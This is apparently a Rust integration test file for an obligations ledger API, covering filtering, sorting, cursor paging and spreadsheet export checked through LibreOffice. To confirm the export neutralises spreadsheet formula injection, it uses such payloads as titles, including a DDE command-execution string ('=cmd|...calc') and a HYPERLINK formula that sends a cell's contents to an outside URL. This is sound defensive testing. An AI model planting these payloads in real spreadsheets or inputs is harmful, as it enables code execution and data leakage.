//! The ledger: what it is filtered by, and its workbook, read back by another library.

use std::{
    io::{Cursor, Read, Seek},
    process::Command,
};

use calamine::{Data, DataType as _, Ods, Range, Reader, Xlsx};
use jiff::SignedDuration;
use serde_json::Value;

use crate::support::{Answer, Paper, TestHub, advice, answer_to, id_of};

const DAY: SignedDuration = SignedDuration::from_hours(24);
const PATH: &str = "/api/v1/obligations";

/// The rows of the workbook, each cell as a text.
pub fn rows(answer: &Answer) -> Vec<Vec<String>> {
    let book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(&answer.bytes)).unwrap();
    texts(&sheet_of(book))
}

/// The sheet of the ledger, which calculates nothing.
fn sheet_of<R: Read + Seek, B: Reader<R, Error: std::fmt::Debug>>(mut book: B) -> Range<Data> {
    assert_eq!(book.sheet_names(), ["台账", "说明"]);
    let formulas = book.worksheet_formula("台账").unwrap();
    assert!(
        formulas.used_cells().next().is_none(),
        "nothing is calculated"
    );
    book.worksheet_range("台账").unwrap()
}

fn texts(sheet: &Range<Data>) -> Vec<Vec<String>> {
    let cell = |cell: &Data| match cell {
        Data::DateTime(at) => {
            let (year, month, day, ..) = at.to_ymd_hms_milli();
            format!("{year}-{month:02}-{day:02}")
        }
        other => other.to_string(),
    };
    sheet
        .rows()
        .map(|row| row.iter().map(cell).collect())
        .collect()
}

/// All that is listed, read in pages of two.
pub async fn listed(hub: &TestHub, login: &str, query: &str) -> Vec<Value> {
    let mut items = Vec::new();
    let mut cursor = String::new();
    loop {
        let path = format!("{PATH}?limit=2&{query}{cursor}");
        let page = hub.by(login).get(path).await.ok();
        items.extend(page["items"].as_array().unwrap().iter().cloned());
        match page["next_cursor"].as_str() {
            Some(next) => cursor = format!("&cursor={next}"),
            None => return items,
        }
    }
}

/// Row by row, what the workbook says is what the list says.
fn assert_says(table: &[Vec<String>], items: &[Value]) {
    assert_eq!(table.len(), items.len() + 1);
    for (place, (row, item)) in table[1..].iter().zip(items).enumerate() {
        let text = |value: &Value| match value {
            Value::Null => String::new(),
            Value::String(text) => text.clone(),
            other => other.to_string(),
        };
        let expected = [
            (0, (place + 1).to_string()),
            (1, text(&item["doc_number"])),
            (2, text(&item["title"])),
            (3, text(&item["creditor"]["name"])),
            (4, text(&item["debtor"]["name"])),
            (5, "2026-09-01".to_owned()),
            (6, text(&item["due"]["due_on"])),
            (10, text(&item["state_label"])),
            (11, text(&item["days_overdue"])),
        ];
        for (column, value) in expected {
            assert_eq!(row[column], value, "row {place}, column {column}");
        }
    }
}

#[tokio::test]
async fn the_workbook_says_what_the_list_says() {
    let hub = TestHub::open().await;
    // What a program might take for a formula is a text.
    let titles = [
        "=1+1",
        "+2",
        "-3",
        "@SUM(A1:A9)",
        "=HYPERLINK(\"http://x\",\"y\")",
    ];
    let mut papers = Vec::new();
    for title in titles {
        papers.push(advice().titled(title).sent(&hub).await);
        hub.pass(SignedDuration::from_secs(1));
    }
    for paper in &papers[..3] {
        paper.signed(&hub, "resources").await;
    }
    answer_to(&papers[0], "resources").sent(&hub).await;
    hub.pass(DAY * 70);
    let path = format!("{PATH}/export");
    let answer = hub.by("resources.reader").get(&path).await;
    assert_eq!(answer.status, 200, "{}", answer.text());
    let kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    assert_eq!(answer.header("content-type"), Some(kind));
    let table = rows(&answer);
    assert_eq!(
        table[0],
        [
            "序号",
            "文号",
            "标题",
            "来文单位",
            "主送单位",
            "收文日期",
            "期限",
            "承办人",
            "回复文号、日期",
            "采纳情况",
            "状态",
            "逾期天数",
            "备注"
        ]
    );
    let items = listed(&hub, "resources.reader", "").await;
    assert_eq!(items.len(), 5);
    assert_says(&table, &items);
    assert_eq!(table[1][2], titles[4]);
    assert!(table[5][8].ends_with("2026-09-01"), "{:?}", table[5]);
    assert!(
        table[5][8].contains('〔'),
        "the number of the reply: {:?}",
        table[5]
    );

    // The office is told the facts, and no titles.
    let all = hub
        .by("justice.office")
        .get(format!("{path}?side=all"))
        .await;
    let all = rows(&all);
    assert_eq!(all.len(), 6);
    assert!(
        all[1..]
            .iter()
            .all(|row| row[2].is_empty() && !row[1].is_empty())
    );
    // A unit that has nothing to do with them is told of none.
    let none = hub.by("agriculture.clerk").get(&path).await;
    assert_eq!(rows(&none).len(), 1);
}

#[tokio::test]
async fn each_criterion_finds_what_it_asks_for() {
    let hub = TestHub::open().await;
    let late = advice().set("reply_due_on", "2026-09-10").sent(&hub).await;
    let open = advice().sent(&hub).await;
    let unsigned = advice().and_to("agriculture").sent(&hub).await;
    for paper in [&late, &open] {
        paper.signed(&hub, "resources").await;
    }
    hub.pass(DAY * 20);
    let resources = &open.obligation(&hub, "resources").await["debtor"]["id"];
    let resources = resources.as_str().unwrap().to_owned();
    let table: &[(&str, &str, Vec<&Paper>)] = &[
        ("overdue=true", "resources.clerk", vec![&late]),
        ("overdue=false", "resources.clerk", vec![&unsigned, &open]),
        (
            "state=awaiting_registration",
            "resources.clerk",
            vec![&open, &late],
        ),
        (
            "state=awaiting_registration&overdue=true",
            "resources.clerk",
            vec![&late],
        ),
        ("kind=JC-JY", "resources.clerk", vec![]),
        (
            "kind=SJ-ZH&due_until=2026-09-10",
            "resources.clerk",
            vec![&late],
        ),
        ("due_from=2026-09-11", "resources.clerk", vec![&open]),
        ("since=2026-09-02", "resources.clerk", vec![]),
        (
            "until=2026-09-01",
            "resources.clerk",
            vec![&unsigned, &open, &late],
        ),
        (
            "side=due",
            "court.clerk",
            vec![&unsigned, &unsigned, &open, &late],
        ),
        ("side=all&overdue=true", "justice.office", vec![&late]),
    ];
    for (query, login, papers) in table {
        let found = listed(&hub, login, query).await;
        let found: Vec<_> = found.iter().map(|one| one["document_id"].clone()).collect();
        let expected: Vec<_> = papers.iter().map(|paper| paper.id.to_string()).collect();
        assert_eq!(found, expected, "{query}");
        let sheet = hub.by(login).get(format!("{PATH}/export?{query}")).await;
        assert_eq!(rows(&sheet).len(), expected.len() + 1, "{query}");
    }
    let query = format!("side=due&debtor={resources}");
    assert_eq!(listed(&hub, "court.clerk", &query).await.len(), 3);
    let creditor = id_of(&hub.by("court.clerk").get("/api/v1/auth/me").await.ok()["unit"]);
    let query = format!("creditor={creditor}");
    assert_eq!(listed(&hub, "resources.clerk", &query).await.len(), 3);
    for bad in [
        "overdue=perhaps",
        "due_from=2026-13-01",
        "debtor=x",
        "sort=title",
        "view=x",
    ] {
        let answer = hub.by("court.clerk").get(format!("{PATH}?{bad}")).await;
        assert_eq!(answer.status, 422, "{bad}: {}", answer.text());
    }
    let paged = hub
        .by("court.clerk")
        .get(format!("{PATH}/export?limit=2"))
        .await;
    paged.problem(422, "invalid");
    assert_eq!(paged.faults(), ["limit unknown"]);
}

#[tokio::test]
async fn the_ledger_is_in_the_order_that_is_asked_for() {
    let hub = TestHub::open().await;
    let mut papers = Vec::new();
    for due_on in ["2026-10-20", "2026-10-10", "2026-10-20", "2026-10-15"] {
        let paper = advice().set("reply_due_on", due_on).sent(&hub).await;
        hub.pass(SignedDuration::from_secs(1));
        paper.signed(&hub, "resources").await;
        papers.push(paper);
    }
    papers.push(advice().sent(&hub).await);
    let login = "resources.clerk";
    let duty = |item: &Value| id_of(item);
    let mut twins = Vec::new();
    for paper in [&papers[0], &papers[2]] {
        twins.push(duty(&paper.obligation(&hub, "resources").await));
    }
    let twins = if twins[0] < twins[1] { [0, 2] } else { [2, 0] };
    let [first, second] = twins;
    for (query, expected) in [
        ("", [4, 3, 2, 1, 0]),
        ("sort=newest", [4, 3, 2, 1, 0]),
        ("sort=oldest", [0, 1, 2, 3, 4]),
        ("sort=due", [1, 3, first, second, 4]),
        ("sort=-due", [second, first, 3, 1, 4]),
    ] {
        let found = listed(&hub, login, query).await;
        let place = |item: &Value| {
            let is_of = |paper: &Paper| item["document_id"] == paper.id.to_string();
            papers.iter().position(is_of).unwrap()
        };
        let found: Vec<_> = found.iter().map(place).collect();
        assert_eq!(found, expected, "{query}");
        let sheet = hub.by(login).get(format!("{PATH}/export?{query}")).await;
        let table = rows(&sheet);
        let days: Vec<_> = table[1..].iter().map(|row| row[6].as_str()).collect();
        let due = |place: &usize| papers_due(*place);
        let expected: Vec<_> = expected.iter().map(due).collect();
        assert_eq!(days, expected, "{query}");
    }
    let running = listed(&hub, login, "sort=due&state=awaiting_registration").await;
    assert_eq!(running.len(), 4);
    assert_eq!(running[0]["document_id"], papers[1].id.to_string());
}

/// What people open the workbook with reads it as it was written: LibreOffice takes it over into
/// its own format, which is read back.
#[tokio::test]
async fn libreoffice_finds_the_rows_of_the_list() {
    if Command::new("soffice").arg("--version").output().is_err() {
        println!("skipped: there is no soffice; see scripts/system-packages");
        return;
    }
    let hub = TestHub::open().await;
    let titles = [
        "=1+1",
        "+2",
        "-3",
        "@SUM(A1:A9)",
        "=HYPERLINK(\"http://x.invalid/?\"&A1,\"详情\")",
        "=cmd|'/c calc'!A0",
        "＝1+1",
        "\u{202e}=1+1",
        "'=1+1",
        "\"=1+1\",2;3",
        "{=1+1}",
        "<f>1+1</f>&amp;_x003D_1",
        "00123",
        "1E5",
        "2026-11-24",
        "TRUE",
    ];
    for title in titles {
        let paper = advice().titled(title).sent(&hub).await;
        hub.pass(SignedDuration::from_secs(1));
        if title.starts_with('=') {
            paper.signed(&hub, "resources").await;
        }
    }
    hub.pass(DAY * 70);
    let answer = hub
        .by("resources.reader")
        .get(format!("{PATH}/export"))
        .await;
    let folder = tempfile::tempdir().unwrap();
    let written = folder.path().join("ledger.xlsx");
    std::fs::write(&written, &answer.bytes).unwrap();
    let profile = url::Url::from_directory_path(folder.path().join("profile")).unwrap();
    let converted = Command::new("soffice")
        .arg(format!("-env:UserInstallation={profile}"))
        .args(["--headless", "--convert-to", "ods", "--outdir"])
        .args([folder.path(), &written])
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&converted.stderr).into_owned();
    let book: Ods<_> = calamine::open_workbook(folder.path().join("ledger.ods"))
        .unwrap_or_else(|error| panic!("{error}: {said}"));
    let sheet = sheet_of(book);
    let items = listed(&hub, "resources.reader", "").await;
    assert_eq!(items.len(), titles.len());
    assert_says(&texts(&sheet), &items);
    for place in 1..=titles.len() {
        assert!(sheet[(place, 2)].is_string(), "{:?}", sheet[(place, 2)]);
        let day = &sheet[(place, 5)];
        assert!(day.is_datetime() || day.is_datetime_iso(), "{day:?}");
    }
}

/// The days of the papers above, as their sheet has them.
fn papers_due(place: usize) -> &'static str {
    ["2026-10-20", "2026-10-10", "2026-10-20", "2026-10-15", ""][place]
}

#[tokio::test]
async fn a_cursor_is_good_for_its_own_order_alone() {
    let hub = TestHub::open().await;
    for _ in 0..2 {
        advice().sent(&hub).await;
    }
    let clerk = || hub.by("resources.clerk");
    let orders = ["newest", "oldest", "due", "-due"];
    for order in orders {
        let page = clerk().get(format!("{PATH}?limit=1&sort={order}")).await;
        let page = page.ok();
        let cursor = page["next_cursor"].as_str().unwrap();
        for other in orders {
            let path = format!("{PATH}?limit=1&sort={other}&cursor={cursor}");
            let answer = clerk().get(path).await;
            if order == other {
                let rest = answer.ok();
                assert_eq!(rest["items"].as_array().unwrap().len(), 1);
                assert_ne!(rest["items"][0]["id"], page["items"][0]["id"]);
            } else {
                answer.problem(422, "invalid");
                assert_eq!(answer.faults(), ["cursor other_order"]);
            }
        }
    }
    let answer = clerk().get(format!("{PATH}?cursor=bmV3ZXN0")).await;
    assert_eq!(answer.faults(), ["cursor malformed"]);
}
